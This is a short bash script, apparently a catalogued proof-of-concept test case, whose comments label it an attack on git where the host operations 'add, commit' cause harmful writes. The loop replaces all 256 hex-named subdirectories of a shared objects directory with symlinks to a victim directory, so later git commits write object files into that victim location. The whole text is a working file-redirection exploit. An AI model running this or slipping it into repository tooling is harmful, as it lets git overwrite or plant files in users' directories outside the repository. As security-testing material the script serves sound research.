#!/bin/bash -e
# A directory of objects is a link to a directory of the user.
# host: add, commit
# harm: writes
# alone
for number in $(seq 0 255); do
  printf -v name %02x "$number"
  [[ -e $COMMON/objects/$name ]] || ln -s "$VICTIM" "$COMMON/objects/$name"
done
